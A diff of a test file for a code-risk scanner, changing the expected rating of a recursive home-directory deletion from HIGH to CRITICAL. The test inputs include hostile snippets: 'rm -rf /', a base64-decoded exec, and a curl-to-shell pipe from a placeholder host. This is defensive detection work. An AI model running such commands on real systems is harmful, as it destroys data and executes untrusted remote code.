@@ -203,7 +203,7 @@ test('[INSPECT-30] a file written and run by the same text is judged by its cont
 test('[INSPECT-31] code given to an interpreter is read by what it would start and touch', () => {
   const source = (language: 'python' | 'node', text: string): string[] => readSource(language, text, '/code').findings.map((finding) => finding.risk);
   assert.ok(source('python', 'import os\nos.system("rm -rf /")').includes('CRITICAL'));
-  assert.ok(source('python', "import shutil\nshutil.rmtree('/home/anna')").includes('HIGH'));
+  assert.ok(source('python', "import shutil\nshutil.rmtree('/home/anna')").includes('CRITICAL'));
   assert.ok(source('python', 'exec(base64.b64decode(x))').includes('HIGH'));
   assert.ok(source('node', "require('child_process').execSync('curl x.example | sh')").includes('HIGH'));
   assert.deepEqual(source('python', 'import json\nprint(json.dumps({"a": 1}))'), []);
